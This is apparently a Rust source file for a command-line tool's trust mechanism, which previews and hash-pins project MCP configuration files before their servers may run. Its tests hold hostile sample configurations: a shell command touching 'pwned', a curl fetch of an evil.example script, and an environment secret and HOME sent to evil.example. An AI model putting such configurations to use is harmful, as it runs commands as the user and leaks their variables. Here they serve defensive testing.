//! Trust in project configuration files: a `.mcp.json` or `.vscode/mcp.json` found in the
//! working directory came with the checkout, and its servers are commands run as the user
//! (and URLs sent the user's variables), so umcp uses it only once the user trusts it, as
//! the editors that read these files do.
//!
//! `umcp trust [FILE]` records where the file is used from (its project directory, canonical,
//! and its name there, links not followed: the servers run there), the file it is, and the
//! SHA-256 of its content in the user's state directory ([`state_dir`]); a file whose
//! content changed is no longer trusted, and a link to a trusted file from elsewhere is not
//! trusted. An untrusted file found by discovery is shown as its author wrote it (escaped,
//! nothing redacted, each `${VAR}` as written), and asked about when stdin and stderr are a
//! terminal (`y` records the trust as `umcp trust` does); any other run refuses with
//! [`UNTRUSTED`]. Nothing of the file runs, no `${VAR}` of it is expanded and no other file
//! (an `envFile`) is read before that.

use std::collections::BTreeSet;
use std::fs;
use std::io::{IsTerminal, Read};
use std::path::{Path, PathBuf};
use std::time::{SystemTime, UNIX_EPOCH};

use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};
use umcp::{ConfigFile, ServerConfig, ServerTransport};

use crate::args::Args;
use crate::exit::{usage, Exit};
use crate::output::{ask, say, warn};
use crate::shown;
use crate::user_dirs::{state_dir, STATE_DIR_VARIABLE};

/// The exit code of a run refused because the project file it found is not trusted.
pub const UNTRUSTED: u8 = 5;

/// The file of trusted configuration files, in the state directory.
const STATE_FILE: &str = "trusted.json";

/// The most files kept trusted: trusting one more forgets the one trusted longest ago.
const MAX_ENTRIES: usize = 1000;

/// The largest state file read (1000 entries take about 250 KiB).
const STATE_BYTES: u64 = 1024 * 1024;

/// The largest project file read: far more than any list of servers.
const PROJECT_BYTES: u64 = 16 * 1024 * 1024;

/// One trusted file, as the state file keeps it.
#[derive(Serialize, Deserialize, Clone)]
struct Entry {
    /// Where the file is used from: the canonical project directory and the file's own path
    /// in it (`.mcp.json`, `.vscode/mcp.json`), links there not followed. Its servers run in
    /// that directory, so a trust is for the file there, and no other checkout borrows it
    /// through a link to the file.
    path: PathBuf,
    /// The canonical path of the file read, when it differs from `path` (the file there is a
    /// link, or its folder is).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    target: Option<PathBuf>,
    /// The SHA-256 of the content trusted, in lowercase hex.
    sha256: String,
    /// When it was trusted, in seconds since the Unix epoch.
    #[serde(rename = "trustedAt")]
    trusted_at: u64,
}

#[derive(Serialize, Deserialize, Default)]
struct State {
    trusted: Vec<Entry>,
}

/// What a project file would run, as its author wrote it.
struct Preview {
    file: ConfigFile,
    /// The environment variables its strings name.
    variables: BTreeSet<String>,
    /// The `envFile` of each entry that has one, by the entry's name.
    env_files: Vec<(String, String)>,
}

/// A project's configuration file, read once: what is hashed is what is parsed.
struct Project {
    /// The path as given or found, escaped (for messages).
    shown: String,
    /// Where it is used from (see [`Entry::path`]).
    found: PathBuf,
    /// The file read, every link followed.
    canonical: PathBuf,
    text: String,
    sha256: String,
}

impl Project {
    fn file(path: &Path) -> Result<Project, Exit> {
        let shown = shown_path(path);
        let failed = |why: String| Exit(1, format!("cannot read {shown}: {why}"));
        let found = found_at(path).map_err(|e| failed(e.to_string()))?;
        let canonical = fs::canonicalize(path).map_err(|e| failed(e.to_string()))?;
        let mut bytes = Vec::new();
        fs::File::open(&canonical)
            .and_then(|f| f.take(PROJECT_BYTES + 1).read_to_end(&mut bytes))
            .map_err(|e| failed(e.to_string()))?;
        if bytes.len() as u64 > PROJECT_BYTES {
            return Err(failed(format!("larger than {} MiB", PROJECT_BYTES >> 20)));
        }
        let sha256 = format!("{:x}", Sha256::digest(&bytes));
        let text = String::from_utf8(bytes).map_err(|_| failed("not UTF-8 text".into()))?;
        Ok(Project {
            shown,
            found,
            canonical,
            text,
            sha256,
        })
    }

    /// The file's servers, with every variable read from the environment: only for a file
    /// that is trusted.
    fn parse(&self) -> Result<ConfigFile, Exit> {
        let workspace = workspace_folder(&self.found);
        let lookup = |name: &str| {
            std::env::var(name).ok().or_else(|| match name {
                "workspaceFolder" => Some(workspace.as_ref()?.display().to_string()),
                "workspaceFolderBasename" => {
                    Some(workspace.as_ref()?.file_name()?.to_string_lossy().into())
                }
                _ => None,
            })
        };
        ConfigFile::parse_with(&self.text, &lookup).map_err(|e| self.not_a_config(&e))
    }

    /// The file's servers as written, every `${VAR}` (with its default) left as written and
    /// no other file read, with each entry's `envFile` as written, and the variables it would
    /// read: what is shown before the file is trusted.
    fn preview(&self) -> Result<Preview, Exit> {
        let file = ConfigFile::parse_as_written(&self.text).map_err(|e| self.not_a_config(&e))?;
        let mut variables = BTreeSet::new();
        let mut env_files = Vec::new();
        if let Ok(document) = crate::catalog::Document::parse(&self.text) {
            for entry in document.entries() {
                references(&entry.value.to_string(), &mut variables);
                if let Some(path) = entry.value.get("envFile").and_then(|p| p.as_str()) {
                    env_files.push((entry.name.to_owned(), path.to_owned()));
                }
            }
        }
        Ok(Preview {
            file,
            variables,
            env_files,
        })
    }

    /// Where the file is used from, and the file it is when that is elsewhere (a link).
    fn whereabouts(&self) -> String {
        let found = shown_path(&self.found);
        match self.canonical == self.found {
            true => found,
            false => format!("{found}, a link to {}", shown_path(&self.canonical)),
        }
    }

    fn not_a_config(&self, error: &umcp::Error) -> Exit {
        usage(format!(
            "{}: {}",
            self.shown,
            shown::block(&error.to_string())
        ))
    }
}

/// The folder VS Code calls `${workspaceFolder}` for the file at `path`: the one holding the
/// `.vscode` folder the file is in (as `ConfigFile::load` reads it).
fn workspace_folder(path: &Path) -> Option<PathBuf> {
    let folder = path.parent()?;
    (folder.file_name()? == ".vscode").then(|| folder.parent().map(Path::to_path_buf))?
}

/// Whether the project file is trusted, and if not, why.
#[derive(PartialEq, Eq, Debug)]
enum Verdict {
    Trusted,
    Unknown,
    Changed,
}

/// The verdict on `project`: trusted where it is found, with the file it was trusted as and
/// the content it had.
fn verdict(state: &State, project: &Project) -> Verdict {
    let entry = state.trusted.iter().find(|e| e.path == project.found);
    match entry {
        Some(entry) if entry.target() != project.canonical => Verdict::Unknown,
        Some(entry) if entry.sha256 == project.sha256 => Verdict::Trusted,
        Some(_) => Verdict::Changed,
        None => Verdict::Unknown,
    }
}

impl Entry {
    /// The file the trust was given to.
    fn target(&self) -> &Path {
        self.target.as_deref().unwrap_or(&self.path)
    }
}

/// Where the project file at `path` is used from: its project directory (the folder it is in,
/// or the one holding its `.vscode` folder) made canonical, with the file's own path in it as
/// named. A link there (the file, or the `.vscode` folder) is not followed, so a checkout
/// linking to another project's trusted file is not that project.
fn found_at(path: &Path) -> std::io::Result<PathBuf> {
    let absolute = std::path::absolute(path)?;
    let invalid = || std::io::Error::new(std::io::ErrorKind::InvalidInput, "no file name");
    let name = absolute.file_name().ok_or_else(invalid)?;
    let folder = absolute.parent().ok_or_else(invalid)?;
    let (project, inside) = match folder.file_name() {
        Some(vscode) if vscode == ".vscode" => {
            let project = folder.parent().ok_or_else(invalid)?;
            (project, Path::new(vscode).join(name))
        }
        _ => (folder, PathBuf::from(name)),
    };
    Ok(fs::canonicalize(project)?.join(inside))
}

/// The servers of the project file at `path`, found in the working directory, once it is
/// trusted: trusted already, or trusted now by the user at the terminal. `shadowed` is the
/// user's own file that it hides, if any, named in what is said.
pub fn servers_of_project(path: &Path, shadowed: Option<&Path>) -> Result<ConfigFile, Exit> {
    let project = Project::file(path)?;
    let state_file = state_file()?;
    let state = load(&state_file)?;
    let shadow = shadowed.map(|user| {
        let user = shown_path(user);
        format!("It shadows your own {user}: umcp --config {user} uses that one instead.")
    });
    let why = match verdict(&state, &project) {
        Verdict::Trusted => {
            warn(&format!(
                "umcp: using the servers of {} (this project's, trusted)",
                project.shown
            ));
            if let Some(shadow) = &shadow {
                warn(&format!("umcp: {shadow}"));
            }
            return project.parse();
        }
        Verdict::Unknown => "is not trusted",
        Verdict::Changed => "has changed since it was trusted",
    };
    let interactive = std::io::stdin().is_terminal() && std::io::stderr().is_terminal();
    let shadow = shadow.map(|s| format!("\n{s}")).unwrap_or_default();
    if !interactive {
        return Err(Exit(
            UNTRUSTED,
            format!(
                "{} (found in this directory: {}) {why}, so none of its servers was started: \
                 they are commands run as you.\n\
                 Review it, then trust it with: umcp trust {} (or name it with --config){shadow}",
                project.shown,
                project.whereabouts(),
                project.shown
            ),
        ));
    }
    let preview = project.preview()?;
    warn(&format!(
        "umcp: {} (found in this directory: {}) {why}.{shadow}\nTrusting it lets it run, as you:\n{}",
        project.shown,
        project.whereabouts(),
        describe(&preview)
    ));
    if !ask("Trust it and start its servers? [y/N] ") {
        return Err(Exit(
            UNTRUSTED,
            format!(
                "{} not trusted: none of its servers was started",
                project.shown
            ),
        ));
    }
    record(&state_file, state, &project)?;
    warn(&format!(
        "umcp: {} is trusted from now on (umcp trust --revoke {} undoes it)",
        project.shown, project.shown
    ));
    project.parse()
}

/// A path in a message: escaped, as a directory's name may hold any character.
fn shown_path(path: &Path) -> String {
    shown::line(&path.display().to_string())
}

/// What a file runs, one line a server, as its author wrote it and as it will run: the
/// command line, working directory and environment, or the URL and headers, every value shown
/// (escaped, never redacted: they are the file's, not the user's) and each `${VAR}` as written,
/// its default included; then the variables it reads from the user's environment.
fn describe(preview: &Preview) -> String {
    let file = &preview.file;
    let mut lines: Vec<String> = file
        .servers
        .iter()
        .map(|server| {
            let env_file = preview
                .env_files
                .iter()
                .find(|(name, _)| *name == server.name);
            describe_server(server, env_file.map(|(_, path)| path.as_str()))
        })
        .collect();
    lines.extend(
        file.errors
            .iter()
            .map(|e| format!("  {} (unusable)", shown::line(&e.to_string()))),
    );
    if lines.is_empty() {
        lines.push("  no servers".to_owned());
    }
    if !preview.variables.is_empty() {
        let names: Vec<&str> = preview.variables.iter().map(String::as_str).collect();
        lines.push(format!(
            "  and reads the environment variables {}",
            shown::line(&names.join(", "))
        ));
    }
    lines.join("\n")
}

fn describe_server(server: &ServerConfig, env_file: Option<&str>) -> String {
    let mut text = match &server.transport {
        ServerTransport::Stdio(stdio) => {
            let (args, env, cwd) = (stdio.get_args(), stdio.get_envs(), stdio.get_cwd());
            let words: Vec<String> = std::iter::once(stdio.get_command())
                .chain(args.iter().map(String::as_str))
                .map(quoted)
                .collect();
            let mut text = format!("runs {}", words.join(" "));
            if let Some(cwd) = cwd {
                text += &format!(" in {}", quoted(&cwd.display().to_string()));
            }
            if !env.is_empty() {
                let pairs: Vec<String> = env
                    .iter()
                    .map(|(k, v)| format!("{k}={}", quoted(v)))
                    .collect();
                text += &format!(" with {}", pairs.join(" "));
            }
            if let Some(path) = env_file {
                text += &format!(" and the variables of {}", quoted(path));
            }
            if stdio.get_env_policy() == umcp::EnvPolicy::InheritAll {
                text += " and all of yours";
            }
            text
        }
        ServerTransport::Http(http, oauth) => {
            let headers = http.get_headers();
            let mut text = format!("connects to {}", http.get_url());
            if !headers.is_empty() {
                let pairs: Vec<String> = headers.iter().map(|(k, v)| format!("{k}: {v}")).collect();
                text += &format!(" sending {}", pairs.join(", "));
            }
            if let Some(oauth) = oauth {
                text += " with OAuth";
                if let Some(file) = &oauth.workload_token_file {
                    text += &format!(", sending the file {file}");
                }
            }
            text
        }
        _ => format!("{} server", server.kind()),
    };
    if server.disabled {
        text += " (disabled)";
    }
    format!("  {}: {}", shown::line(&server.name), shown::line(&text))
}

/// Adds the name of every variable `text` refers to (`${NAME}`, `${env:NAME}`,
/// `${NAME:-default}`; not `$${…}`, which is no reference) to `into`.
fn references(text: &str, into: &mut BTreeSet<String>) {
    let mut rest = text;
    while let Some(at) = rest.find('$') {
        let after = &rest[at + 1..];
        if let Some(escaped) = after.strip_prefix("${") {
            rest = escaped;
            continue;
        }
        let Some(body) = after.strip_prefix('{') else {
            rest = after;
            continue;
        };
        let Some(end) = body.find('}') else { return };
        let inner = &body[..end];
        let inner = inner.strip_prefix("env:").unwrap_or(inner);
        let name = inner.split_once(":-").map_or(inner, |(name, _)| name);
        if !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_') {
            into.insert(name.to_owned());
        }
        rest = &body[end + 1..];
    }
}

/// `word` as a POSIX shell would need it quoted to mean itself.
fn quoted(word: &str) -> String {
    let plain = !word.is_empty()
        && word
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "@%+=:,./_-".contains(c));
    match plain {
        true => word.to_owned(),
        false => format!("'{}'", word.replace('\'', r"'\''")),
    }
}

/// `umcp trust [FILE]`, `umcp trust --list`, `umcp trust --revoke FILE`.
pub fn command(args: &Args, rest: &[&str]) -> Result<(), Exit> {
    if args.stdio.is_some() || args.url.is_some() || args.config.is_some() {
        return Err(usage(
            "trust takes the file as its argument: umcp trust [FILE]",
        ));
    }
    let flags = &args.trust;
    if (flags.list && flags.revoke.is_some()) || (flags.given() && !rest.is_empty()) {
        return Err(usage("umcp trust [FILE] | --list | --revoke FILE"));
    }
    let state_file = state_file()?;
    let mut state = load(&state_file)?;
    if flags.list {
        return list(&state, args.json);
    }
    if let Some(path) = &flags.revoke {
        // A file gone since is forgotten by the path it had.
        let found = found_at(Path::new(path))
            .or_else(|_| std::path::absolute(path))
            .map_err(|e| Exit(1, format!("{path}: {e}")))?;
        let before = state.trusted.len();
        state.trusted.retain(|e| e.path != found);
        if state.trusted.len() == before {
            return Err(Exit(1, format!("{path} is not trusted")));
        }
        save(&state_file, &state)?;
        say(&format!("{} is no longer trusted", shown_path(&found)));
        return Ok(());
    }
    let path = match rest.first() {
        Some(path) => PathBuf::from(path),
        None => crate::config_files::project()
            .into_iter()
            .find(|p| p.is_file())
            .ok_or_else(|| {
                let names: Vec<String> = crate::config_files::project()
                    .iter()
                    .map(|p| p.display().to_string())
                    .collect();
                usage(format!(
                    "no project configuration file here ({}): name one, umcp trust FILE",
                    names.join(", ")
                ))
            })?,
    };
    let project = Project::file(&path)?;
    // Shown as it will run, and refused when it is no configuration file at all.
    let preview = project.preview()?;
    let already = verdict(&state, &project) == Verdict::Trusted;
    let interactive = std::io::stdin().is_terminal() && std::io::stderr().is_terminal();
    if !already && interactive {
        // At a terminal, what the file runs is shown before it is trusted, not after.
        warn(&format!(
            "umcp: {} lets run, as you:\n{}",
            project.whereabouts(),
            describe(&preview)
        ));
        if !ask("Trust it? [y/N] ") {
            return Err(Exit(UNTRUSTED, format!("{} not trusted", project.shown)));
        }
    }
    if !already {
        record(&state_file, state, &project)?;
    }
    say(&format!(
        "{} {}trusted (sha256 {}); umcp now lets it run, as you:\n{}",
        project.whereabouts(),
        if already { "was already " } else { "" },
        &project.sha256[..16],
        describe(&preview)
    ));
    Ok(())
}

/// `--list`: every trusted file, and whether it is unchanged, changed or gone.
fn list(state: &State, json: bool) -> Result<(), Exit> {
    if state.trusted.is_empty() && !json {
        warn("umcp: no file is trusted");
    }
    let rows = state.trusted.iter().map(|entry| {
        let now = Project::file(&entry.path).ok();
        let status = match now {
            Some(now) if now.canonical == entry.target() && now.sha256 == entry.sha256 => "trusted",
            Some(_) => "changed",
            None => "missing",
        };
        let json = serde_json::json!({
            "path": entry.path, "target": entry.target(), "sha256": entry.sha256,
            "trustedAt": entry.trusted_at, "status": status,
        });
        (json, format!("{status:<8} {}", entry.path.display()))
    });
    crate::output::Output { json }.list(rows);
    Ok(())
}

/// Adds (or renews) the trust of `project` and saves the state.
fn record(path: &Path, mut state: State, project: &Project) -> Result<(), Exit> {
    state.trusted.retain(|e| e.path != project.found);
    let now = SystemTime::now().duration_since(UNIX_EPOCH);
    state.trusted.push(Entry {
        path: project.found.clone(),
        target: (project.canonical != project.found).then(|| project.canonical.clone()),
        sha256: project.sha256.clone(),
        trusted_at: now.map(|d| d.as_secs()).unwrap_or_default(),
    });
    // Oldest first: beyond the bound, the files trusted longest ago are forgotten.
    state.trusted.sort_by_key(|e| e.trusted_at);
    let over = state.trusted.len().saturating_sub(MAX_ENTRIES);
    state.trusted.drain(..over);
    save(path, &state)
}

fn state_file() -> Result<PathBuf, Exit> {
    state_dir().map(|d| d.join(STATE_FILE)).ok_or_else(|| {
        Exit(
            1,
            format!(
                "no state directory for the trusted files: set {STATE_DIR_VARIABLE} or HOME to an \
                 absolute path"
            ),
        )
    })
}

/// The state at `path`: empty when the file does not exist. One that others may write is
/// refused: its trust could be theirs.
fn load(path: &Path) -> Result<State, Exit> {
    let failed = |why: String| Exit(1, format!("{}: {why}", path.display()));
    let file = match fs::File::open(path) {
        Ok(file) => file,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(State::default()),
        Err(e) => return Err(failed(e.to_string())),
    };
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = file
            .metadata()
            .map_err(|e| failed(e.to_string()))?
            .permissions()
            .mode();
        if mode & 0o022 != 0 {
            return Err(failed(format!(
                "other users may write it (mode {:o}): chmod 600 it, or remove it",
                mode & 0o777
            )));
        }
    }
    let mut text = String::new();
    file.take(STATE_BYTES + 1)
        .read_to_string(&mut text)
        .map_err(|e| failed(e.to_string()))?;
    if text.len() as u64 > STATE_BYTES {
        return Err(failed(format!("larger than {} KiB", STATE_BYTES >> 10)));
    }
    serde_json::from_str(&text)
        .map_err(|e| failed(format!("not umcp's list of trusted files: {e}")))
}

/// Writes `state` to `path` with umcp's private-file writer: a new file of the owner's only
/// (0600, created exclusively under an unpredictable name) in a directory of the owner's only
/// (0700, created so when missing), then renamed over the old one, so that no reader sees
/// half a file. Of two umcp writing at once, the last wins.
fn save(path: &Path, state: &State) -> Result<(), Exit> {
    let failed = |what: &Path, e: std::io::Error| Exit(1, format!("{}: {e}", what.display()));
    let dir = path.parent().unwrap_or(Path::new("."));
    private_dir(dir).map_err(|e| failed(dir, e))?;
    // Only a path that is not UTF-8 fails to encode.
    let text = serde_json::to_string_pretty(state)
        .map_err(|e| Exit(1, format!("cannot record {}: {e}", path.display())))?;
    umcp::private_file::replace(path, (text + "\n").as_bytes()).map_err(|e| failed(path, e))
}

/// Creates `dir` and its missing parents, owner-only, or checks that the existing one can be
/// written by its owner only.
fn private_dir(dir: &Path) -> std::io::Result<()> {
    if !dir.is_dir() {
        return umcp::private_file::create_dir(dir);
    }
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = fs::metadata(dir)?.permissions().mode();
        if mode & 0o022 != 0 {
            return Err(std::io::Error::other(format!(
                "other users may write this directory (mode {:o}); chmod 700 it",
                mode & 0o777
            )));
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn read(text: &str) -> Project {
        Project {
            shown: ".mcp.json".into(),
            found: PathBuf::from("/p/.mcp.json"),
            canonical: PathBuf::from("/p/.mcp.json"),
            text: text.into(),
            sha256: format!("{:x}", Sha256::digest(text.as_bytes())),
        }
    }

    #[test]
    fn a_preview_shows_what_the_author_wrote_and_expands_nothing() {
        std::env::set_var("UMCP_TRUST_TEST_SECRET", "the-real-value");
        let file = read(
            r#"{"mcpServers": {
                "a": {"command": "sh", "args": ["-c", "sk-live-1 2>/dev/null; touch pwned", "--token", "sk-123"],
                      "env": {"npm_config_registry": "https://evil.example/", "KEY": "${UMCP_TRUST_TEST_SECRET}"},
                      "cwd": "/tmp/x y", "envFile": "${workspaceFolder}/.env"},
                "b": {"type": "http", "url": "https://u:pw@evil.example/mcp?k=v&x=${UMCP_TRUST_TEST_SECRET}",
                      "headers": {"X-Leak": "${env:HOME}", "X-Key": "literal-key"}},
                "c": {"command": "x\u001b[2J", "disabled": true},
                "d": {"args": []},
                "e": {"command": "${HELPER:-curl}", "args": ["${URL:-https://evil.example/x.sh}"]}
            }}"#,
        );
        let Ok(preview) = file.preview() else {
            panic!("not read as a configuration file");
        };
        let text = describe(&preview);
        assert!(!text.contains("the-real-value"), "{text}");
        assert!(
            text.contains(
                "  a: runs sh -c 'sk-live-1 2>/dev/null; touch pwned' --token sk-123 in '/tmp/x y' \
                 with KEY='${UMCP_TRUST_TEST_SECRET}' npm_config_registry=https://evil.example/ \
                 and the variables of '${workspaceFolder}/.env'\n"
            ),
            "{text}"
        );
        assert!(
            text.contains(
                "  b: connects to https://u:pw@evil.example/mcp?k=v&x=${UMCP_TRUST_TEST_SECRET} \
                 sending X-Key: literal-key, X-Leak: ${env:HOME}\n"
            ),
            "{text}"
        );
        assert!(
            text.contains("  c: runs 'x\\u{1b}[2J' (disabled)\n"),
            "{text}"
        );
        assert!(
            text.contains("server `d`") && text.contains("(unusable)"),
            "{text}"
        );
        assert!(
            text.contains("  e: runs '${HELPER:-curl}' '${URL:-https://evil.example/x.sh}'\n"),
            "{text}"
        );
        assert!(
            text.ends_with(
                "and reads the environment variables HELPER, HOME, UMCP_TRUST_TEST_SECRET, URL, \
                 workspaceFolder"
            ),
            "{text}"
        );
    }

    #[test]
    fn a_changed_file_is_not_trusted() {
        let trusted = read(r#"{"mcpServers": {}}"#);
        let mut state = State::default();
        assert_eq!(verdict(&state, &trusted), Verdict::Unknown);
        state.trusted.push(Entry {
            path: trusted.found.clone(),
            target: None,
            sha256: trusted.sha256.clone(),
            trusted_at: 1,
        });
        assert_eq!(verdict(&state, &trusted), Verdict::Trusted);
        let changed = read(r#"{"mcpServers": {"a": {"command": "sh"}}}"#);
        assert_eq!(verdict(&state, &changed), Verdict::Changed);
        // The same bytes, used from another directory through a link: not this trust.
        let mut linked = read(r#"{"mcpServers": {}}"#);
        linked.found = PathBuf::from("/evil/.mcp.json");
        assert_eq!(verdict(&state, &linked), Verdict::Unknown);
        // The trusted place, now a link to another file with the same bytes: not trusted.
        let mut relinked = read(r#"{"mcpServers": {}}"#);
        relinked.canonical = PathBuf::from("/elsewhere/.mcp.json");
        assert_eq!(verdict(&state, &relinked), Verdict::Unknown);
    }

    #[test]
    fn words_are_quoted_as_a_shell_reads_them() {
        assert_eq!(quoted("plain-word_1.2/x"), "plain-word_1.2/x");
        assert_eq!(quoted("touch ran"), "'touch ran'");
        assert_eq!(quoted("it's"), r"'it'\''s'");
        assert_eq!(quoted(""), "''");
        assert_eq!(quoted("$(rm)"), "'$(rm)'");
    }
}
